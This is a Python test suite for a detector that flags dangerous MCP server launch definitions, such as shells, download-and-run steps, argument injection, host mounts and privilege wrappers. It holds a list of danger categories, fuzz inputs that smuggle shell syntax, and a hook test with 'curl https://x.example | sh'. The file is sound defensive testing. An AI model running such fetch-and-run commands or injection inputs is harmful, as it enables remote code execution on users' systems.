"""Definitions as a whole: labelled launches, wrappers that hide nothing, and any input at all."""

import dataclasses
import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spawngate.launch.definition import PLATFORMS, Definition, from_mapping
from spawngate.launch.facts import LaunchFacts
from spawngate.launch.surroundings import Surroundings
from spawngate.launch.understand import _READERS, MAX_ARGUMENTS, hook, understand
from tests.launch.told import differing, told

LABELLED: list[dict[str, Any]] = json.loads(
    (Path(__file__).parents[1] / "fixtures" / "launch_attacks.json").read_text(encoding="utf-8")
)

DANGERS = (
    "shell",
    "inline_code",
    "encoded_code",
    "downloads_and_runs",
    "runs_install",
    "runs_repository_script",
    "loads_code",
    "argument_injection",
    "debugger",
    "extra_packages",
    "registry_override",
    "config_override",
    "lookalike_of",
    "hidden_shell",
    "env_loads_code",
    "env_redirects",
    "env_path",
    "privileged",
    "host_mounts",
    "broad_mounts",
    "engine_socket",
    "host_network",
    "host_namespaces",
    "added_capabilities",
    "devices",
    "entrypoint",
    "relative_paths",
    "network_paths",
    "writable_places",
    "odd_characters",
    "plain_http",
    "raw_ip",
    "tunnel",
    "utility",
)
"""Facts that speak against a launch."""

REASONS: dict[str, tuple[str, ...]] = {
    "A01": ("shell", "utility"),
    "A03": ("shell", "utility"),
    "A05": ("shell", "utility"),
    "B01": ("shell", "utility"),
    "B03": ("shell", "utility"),
    "B05": ("shell", "utility"),
    "B07": ("shell", "utility"),
    "B09": ("runs_repository_script", "relative_paths"),
    "B11": ("hidden_shell",),
    "B13": ("registry_override",),
    "B15": ("relative_paths",),
    "B16": ("relative_paths", "runs_install"),
    "B17": (),
    "C01": ("inline_code",),
    "C03": ("inline_code",),
    "C05": ("inline_code", "loads_code"),
    "C07": ("debugger",),
    "D01": ("inline_code",),
    "D03": ("inline_code",),
    "D05": (),
    "D07": ("relative_paths",),
    "D08": ("runs_install",),
    "E01": (),
    "E03": ("extra_packages",),
    "E04": ("inline_code",),
    "F01": ("host_mounts", "broad_mounts", "engine_socket"),
    "F03": ("engine_socket",),
    "F05": ("shell", "entrypoint", "utility"),
    "F07": ("runs_repository_script",),
    "G01": ("shell", "utility"),
    "G03": ("shell", "utility"),
    "G05": ("argument_injection", "shell"),
    "G07": ("argument_injection",),
    "H01": ("env_loads_code",),
    "H03": ("env_loads_code",),
    "H05": ("env_loads_code",),
    "H07": ("env_loads_code",),
    "H09": ("env_loads_code",),
    "H10": (),
    "H12": ("env_loads_code",),
    "H14": ("env_loads_code",),
    "H16": ("env_loads_code",),
    "H18": (),
    "I01": ("lookalike_of", "relative_paths"),
    "I03": (),
    "I05": ("lookalike_of", "odd_characters"),
    "I07": ("odd_characters",),
    "I08": ("odd_characters",),
    "I10": ("network_paths", "lookalike_of"),
    "J01": ("shell", "utility"),
    "J03": ("shell", "utility"),
    "J05": ("shell", "utility"),
    "J06": ("shell", "utility"),
    "J09": ("shell", "utility"),
    "J13": (),
    "J15": (),
    "J16": ("shell", "utility"),
}


def dangers(facts: LaunchFacts) -> set[str]:
    """The dangerous facts that hold."""
    return {name for name in DANGERS if getattr(facts, name)}


def labelled(prefix: str) -> list[Any]:
    return [pytest.param(item, id=item["id"]) for item in LABELLED if item["id"].startswith(prefix)]


@pytest.mark.parametrize("item", [case for case in LABELLED if case["id"] in REASONS], ids=lambda case: str(case["id"]))
def test_labelled_attack_has_the_facts_that_make_it_one(item: dict[str, Any]) -> None:
    assert set(REASONS[item["id"]]) <= dangers(understand(from_mapping(item["server"])))


@pytest.mark.parametrize("item", labelled("Z"))
def test_honest_twin_has_no_dangerous_fact(item: dict[str, Any]) -> None:
    assert dangers(understand(from_mapping(item["server"]))) - {"relative_paths"} == set()


def test_labelled_facts_that_are_no_dangers() -> None:
    by_id = {
        item["id"]: understand(from_mapping(item["server"])) for item in LABELLED if "_after" not in item["server"]
    }
    assert (by_id["B17"].pin, by_id["B15"].source, by_id["B16"].source) == ("latest", "local-folder", "local-folder")
    assert (by_id["D05"].searches_cwd, by_id["D05"].cwd_place) == (True, "relative")
    assert (by_id["E01"].source, by_id["E01"].pin) == ("git", "branch")
    assert (by_id["H10"].env_inert, by_id["H18"].env_inert) == (("PYTHONSTARTUP",), ("PYTHONBREAKPOINT",))
    assert (by_id["I03"].searches_cwd, by_id["I03"].cwd_place) == (True, "relative")
    assert (by_id["J01"].transport_conflict, by_id["J05"].key_case, by_id["J13"].auto_approve_all) == (True, True, True)
    assert (by_id["J06"].command_variable, by_id["J06"].variables) == (True, ("MCP_LAUNCHER",))
    assert (by_id["J15"].odd_keys, by_id["J16"].odd_keys) == (("hooks",), ("servers",))
    assert (by_id["Z11"].transport, by_id["Z11"].url, by_id["Z11"].source) == (
        "http",
        "https://mcp.example.com/mcp",
        "remote",
    )


WRAPPERS: list[tuple[str, ...]] = [
    ("env",),
    ("env", "A=1"),
    ("env", "-u", "A"),
    ("timeout", "5"),
    ("timeout", "-k", "1", "5"),
    ("nice",),
    ("nice", "-n", "5"),
    ("nohup",),
    ("setsid", "-w"),
    ("stdbuf", "-oL"),
    ("sudo", "-n"),
    ("sudo", "-u", "root", "-E"),
    ("doas",),
    ("time", "-p"),
    ("xargs", "-n1"),
    ("busybox", "env"),
    ("ionice", "-c", "3"),
    ("strace", "-f"),
    ("op", "run", "--"),
    ("doppler", "run", "--"),
    ("dotenv", "--"),
    ("cmd", "/c"),
    ("caffeinate", "-i"),
    ("direnv", "exec", "."),
    ("mise", "exec", "--"),
    ("poetry", "run"),
    ("tini", "--"),
]
COMMANDS = [item for item in LABELLED if isinstance(item["server"].get("command"), str)]


@pytest.mark.parametrize("wrapper", WRAPPERS, ids=" ".join)
def test_a_wrapper_hides_no_danger(wrapper: tuple[str, ...]) -> None:
    lost: dict[str, set[str]] = {}
    for item in COMMANDS:
        inner = from_mapping(item["server"])
        if inner.command is None or inner.command != inner.command.strip():
            continue
        outer = dataclasses.replace(inner, command=wrapper[0], args=(*wrapper[1:], inner.command, *inner.args))
        missing = dangers(understand(inner)) - dangers(understand(outer))
        if missing:
            lost[item["id"]] = missing
    # A line break or a bracket of its own cannot stand in a line for cmd.exe.
    assert {key: value for key, value in lost.items() if wrapper[0] != "cmd" or key not in ("I08",)} == {}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(WRAPPERS), min_size=1, max_size=5), st.sampled_from(COMMANDS))
def test_wrappers_inside_each_other_hide_no_danger(wrappers: list[tuple[str, ...]], item: dict[str, Any]) -> None:
    inner = from_mapping(item["server"])
    if inner.command is None or inner.command != inner.command.strip() or any("\n" in word for word in inner.args):
        return
    words = (inner.command, *inner.args)
    for wrapper in wrappers:
        words = (*wrapper, *words)
    outer = understand(dataclasses.replace(inner, command=words[0], args=words[1:]))
    assert dangers(understand(inner)) - dangers(outer) == set()


NAMES = sorted(_READERS)
WORDS = st.one_of(
    st.sampled_from(
        [
            "-c",
            "-e",
            "--",
            "-y",
            "-p",
            "--call=x",
            "a;b|c",
            "$(",
            "`",
            "<(",
            "${A:-sh}",
            "%X%",
            "-",
            "",
            " ",
            "/:/x",
            "-v",
            "A=1",
            "--mount",
            "type=bind,src=/",
            "\u202e",
            chr(0xD800),
            "\x00",
            "\\\\h\\s",
            "http://x",
            "data:,x",
            "run",
            "exec",
            "install",
        ]
    ),
    st.sampled_from(NAMES),
    st.text(max_size=20),
)


@settings(max_examples=400, deadline=None)
@given(
    st.one_of(st.sampled_from(NAMES), WORDS),
    st.lists(WORDS, max_size=10),
    st.dictionaries(
        st.sampled_from(["NODE_OPTIONS", "PYTHONPATH", "npm_config_x", "BASH_ENV", "A"]), WORDS, max_size=3
    ),
    st.sampled_from(PLATFORMS),
    st.one_of(st.none(), WORDS),
)
def test_total_and_deterministic(
    command: str, args: list[str], env: dict[str, str], platform: str, other: str | None
) -> None:
    definition = Definition(command, tuple(args), env, other, other, transport=other, platform=platform)
    assert understand(definition) == understand(definition)


@pytest.mark.parametrize(
    "piece", ["a ", "$(", "`", '"', "${a}", "/", "exec ", "&", "(", "-e ", "%a%", "\\", "\u0430a", "a=b;"]
)
def test_time_grows_with_the_text_and_no_faster(piece: str) -> None:
    for command in ("sh", "cmd", "powershell", "npx", "uvx", "docker", "node", "python", "sed", "java", "zz"):
        for option in ("-c", "-e", "-v", "--from"):
            begun = time.perf_counter()
            understand(Definition(command, (option, piece * 10_000)))
            assert time.perf_counter() - begun < 3


def test_more_arguments_than_anybody_has() -> None:
    facts = understand(Definition("npx", ("-y",) * (MAX_ARGUMENTS + 1)))
    assert facts.unknown == ("malformed",)


@pytest.mark.parametrize(
    ("line", "facts"),
    [
        (
            "./server",
            {
                "source": "binary",
                "script": "./server",
                "script_place": "project",
                "relative_paths": ("./server",),
                "unknown": ("unknown-program",),
            },
        ),
        ("my-server --stdio", {"server_args": ("--stdio",), "source": "binary", "unknown": ("unknown-program",)}),
        (
            "/tmp/server",
            {
                "source": "binary",
                "script": "/tmp/server",
                "script_place": "temporary",
                "writable_places": ("/tmp/server",),
                "unknown": ("unknown-program",),
            },
        ),
        (
            "'npx -y x'",
            {
                "launcher": "npx",
                "package": "pkg:npm/x",
                "pin": "unversioned",
                "source": "registry",
                "searches_cwd": True,
            },
        ),
        (
            "'/opt/my app/server'",
            {
                "source": "binary",
                "script": "/opt/my app/server",
                "script_place": "application",
                "unknown": ("unknown-program",),
            },
        ),
        (
            "'${LAUNCHER}' -c x",
            {
                "server_args": ("-c", "x"),
                "source": "binary",
                "variables": ("LAUNCHER",),
                "command_variable": True,
                "unknown": ("unresolved-variable", "unknown-program"),
            },
        ),
        (
            "npx -y '@a/b@${V:-1.0.0}'",
            {
                "launcher": "npx",
                "package": "pkg:npm/%40a/b@1.0.0",
                "pin": "exact",
                "source": "registry",
                "searches_cwd": True,
                "variables": ("V",),
            },
        ),
        (
            "'%COMSPEC%' /c npx -y x",
            {
                "wrappers": ("cmd",),
                "launcher": "npx",
                "shell": True,
                "shell_plain": True,
                "package": "pkg:npm/x",
                "pin": "unversioned",
                "source": "registry",
                "searches_cwd": True,
                "variables": ("COMSPEC",),
                "command_variable": True,
            },
        ),
    ],
)
def test_commands_of_other_shapes(line: str, facts: dict[str, object]) -> None:
    assert told(line) == facts


def test_variables_of_the_definition_are_filled_in() -> None:
    facts = understand(Definition("${X}", ("-c", "echo"), {"X": "sh"}))
    assert (facts.shell, facts.command_variable, facts.variables) == (True, True, ("X",))


def test_transports() -> None:
    def transport(**fields: Any) -> tuple[str, bool]:
        facts = understand(Definition(**fields))
        return facts.transport, facts.transport_conflict

    assert transport(command="x") == ("stdio", False)
    assert transport(command="x", transport="sse") == ("stdio", True)
    assert transport(command="x", url="https://x") == ("stdio", True)
    assert transport(url="https://x") == ("http", False)
    assert transport(url="wss://x") == ("ws", False)
    assert transport(url="https://x", transport="sse") == ("sse", False)
    assert transport(url="https://x", transport="stdio") == ("http", True)
    assert transport(transport="builtin") == ("builtin", False)
    assert transport() == ("unknown", False)


def test_the_definition_itself() -> None:
    facts = understand(
        Definition(
            "node",
            ("/opt/x/s.js",),
            {"API_KEY": "x", "LANG": "C"},
            cwd="/tmp/x",
            env_file=".env",
            auto_approve=("*",),
            disabled=True,
            odd_keys=("servers",),
        )
    )
    assert differing(facts) == {
        "launcher": "node",
        "source": "local-script",
        "script": "/opt/x/s.js",
        "script_place": "application",
        "env_secrets": ("API_KEY",),
        "env_file": True,
        "cwd": "/tmp/x",
        "cwd_place": "temporary",
        "writable_places": ("/tmp/x",),
        "auto_approve_all": True,
        "disabled": True,
        "odd_keys": ("servers",),
    }


def test_surroundings_are_facts() -> None:
    around = Surroundings({"call": "x", "color": "y"}, frozenset({"node_modules/.bin/x"}), ("/a",), True)
    facts = understand(Definition("npx", ("-y", "x")), around)
    assert (facts.npmrc, facts.shadowed_by, facts.writable_by_others, facts.under_version_control) == (
        ("call",),
        ("node_modules/.bin/x",),
        ("/a",),
        True,
    )
    assert understand(Definition("node", ("x",)), around).npmrc == ()


def test_hook_lines() -> None:
    assert differing(hook("curl https://x.example | sh"))["downloads_and_runs"] is True
    assert hook("npx -y x@1.0.0").shell_plain
    assert hook("npx -y x@1.0.0", "windows").wrappers == ("cmd",)
